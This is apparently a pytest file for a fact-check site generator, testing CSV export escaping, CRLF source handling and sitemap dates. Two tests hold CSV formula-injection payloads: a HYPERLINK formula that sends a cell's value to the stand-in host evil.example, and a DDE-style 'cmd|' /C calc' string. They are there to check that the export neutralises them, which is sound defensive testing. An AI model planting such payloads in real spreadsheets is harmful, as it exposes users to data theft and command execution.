"""The open data as others read it: a spreadsheet opening the CSV, a crawler reading the sitemap,
an annotation client, and sources saved with Windows line endings."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
import json
import shutil
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest

from rootcheck.render.exports import spreadsheet_safe
from rootcheck.render.site import plan_site

from .helpers import FIXTURE, GOLDEN, SUB_PATH, build, checked, selections

SITEMAP = "{http://www.sitemaps.org/schemas/sitemap/0.9}"
#: Days a build may run on, and a build not dated at all.
DAYS = (dt.date(2024, 3, 1), dt.date(2026, 1, 2), None)


def _copy(tmp_path: Path) -> Path:
    root = tmp_path / "fixture"
    shutil.copytree(FIXTURE, root)
    return root


def _rows(files: dict[str, bytes]) -> dict[str, dict[str, str]]:
    return {row["id"]: row for row in csv.DictReader(io.StringIO(files["data/claims.csv"].decode()))}


def test_no_cell_of_the_csv_opens_as_a_formula(tmp_path: Path) -> None:
    root = _copy(tmp_path)
    jobs = root / "claims" / "progress" / "jobs.yaml"
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Details")'
    jobs.write_text(
        jobs.read_text("utf-8").replace(
            'summary: "Support helped create and sustain more than 90,000 jobs"', f"summary: '{formula}'"
        ),
        "utf-8",
    )
    sources = root / "seeds" / "sources.yaml"
    sources.write_text(
        sources.read_text("utf-8").replace('"The Pledge: Safer and More Prosperous"', '"@SUM(1+1)"'), "utf-8"
    )
    rows = _rows(build(root))
    assert rows["jobs"]["summary"] == "'" + formula
    assert rows["four-billion"]["source_title"] == "'@SUM(1+1)"
    # What was text stays text; every other cell is as it was.
    assert rows["jobs"]["quote"].startswith("private sector") and rows["jobs"]["value"] == "90000"


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1-1", "'+1-1"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        # A number alone runs nothing, and a spreadsheet must still read it as a number.
        ("-12.5", "-12.5"),
        ("-3", "-3"),
        ("+7", "+7"),
        ("-1e-05", "-1e-05"),
        ("-12%", "'-12%"),
        ("1,200 teachers", "1,200 teachers"),
        ("", ""),
    ],
)
def test_a_cell_that_would_open_as_a_formula_is_marked_as_text(cell: str, written: str) -> None:
    assert spreadsheet_safe(cell) == written


def test_a_source_with_windows_line_endings_is_read_and_pointed_into_as_its_file_stands(
    tmp_path: Path,
) -> None:
    # The published text is the file byte for byte, so each CR is a character of it, as a standard
    # decoder gives it: positions count it, and an annotation's exact words hold it where they wrap.
    root = _copy(tmp_path)
    crlf = {"pledge-2021": "pledge.md", "critique": "critique.txt"}
    for name in crlf.values():
        seed = root / "seeds" / name
        seed.write_bytes(seed.read_bytes().replace(b"\n", b"\r\n"))
    files, lf = build(root), build()
    claims = {c["id"]: c for c in json.loads(files["data/claims.json"])["claims"]}
    before = {c["id"]: c for c in json.loads(lf["data/claims.json"])["claims"]}
    assert claims.keys() == before.keys()
    for source_id, name in crlf.items():
        assert files[f"sources/{source_id}/source.txt"] == (root / "seeds" / name).read_bytes()
    wrapped = 0
    for selected in selections(files):
        claim = claims[selected.id.removeprefix("claims/").removesuffix("/#annotation")]
        assert claim["span"] == {"start": selected.start, "end": selected.end}
        wrapped += "\r\n" in selected.quote["exact"]
    assert wrapped  # a Markdown paragraph's passage over two lines
    for claim_id, claim in claims.items():
        # Read as a reader sees it, the text has the same words where the passage stands.
        assert claim["original_url"] == before[claim_id]["original_url"]
        assert claim["line"] == before[claim_id]["line"]
        assert claim["status"] == before[claim_id]["status"] == "exact"
    # Every page shows what it did (the Markdown source's front matter as metadata, not as text).
    pages = [name for name in lf if name.endswith(".html")]
    assert [files[name].replace(b"\r", b"") for name in pages] == [lf[name] for name in pages]


def _lastmods(files: dict[str, bytes]) -> dict[str, str | None]:
    urls = ET.fromstring(files["sitemap.xml"])
    return {
        (u.findtext(f"{SITEMAP}loc") or "").removeprefix(SUB_PATH): u.findtext(f"{SITEMAP}lastmod")
        for u in urls
    }


def test_the_sitemap_dates_each_page_by_its_content_never_by_the_build() -> None:
    built = [build(FIXTURE, dataclasses.replace(GOLDEN, build_date=day)) for day in DAYS]
    # The same inputs give the same sitemap whatever day the build runs, dated or not.
    assert len({files["sitemap.xml"] for files in built}) == 1
    lastmod = _lastmods(built[0])
    # Updated on 2023-06-01, after its corrections; a claim corrected on 2024-02-12, and the pages
    # that show it; a claim of the money comparison, which names its verdict.
    assert lastmod["comparisons/money/"] == "2023-06-01"
    assert lastmod["claims/jobs/"] == lastmod["comparisons/jobs/"] == lastmod[""] == "2024-02-12"
    assert lastmod["sources/progress-2023/"] == lastmod["methodology/"] == "2024-02-12"
    assert lastmod["claims/four-billion/"] == "2023-06-01"
    # Nothing but a document's own day: no day of the fact-check's tells when the page changed.
    assert lastmod["sources/"] is None and lastmod["claims/teachers/"] is None
    assert lastmod["comparisons/local/"] is None
    assert "2024-03-01" not in lastmod.values()


def test_a_correction_to_a_claim_dates_its_pages_in_the_sitemap_anew(tmp_path: Path) -> None:
    root = _copy(tmp_path)
    with (root / "claims" / "pledges" / "teachers.yaml").open("a", encoding="utf-8") as teachers:
        teachers.write("corrections:\n  - date: 2024-05-06\n    text: The year was wrong.\n")
    plans = [plan_site(checked(r), GOLDEN) for r in (FIXTURE, root)]
    before, after = ({job.path: job.key for job in plan} for plan in plans)
    # Its key covers the days, so a rebuild does not carry the old sitemap over.
    assert before["sitemap.xml"] != after["sitemap.xml"]
    lastmod = _lastmods(build(root))
    assert lastmod["claims/teachers/"] == lastmod["sources/pledge-2021/"] == "2024-05-06"
    assert lastmod["comparisons/money/"] == "2023-06-01"  # does not show it
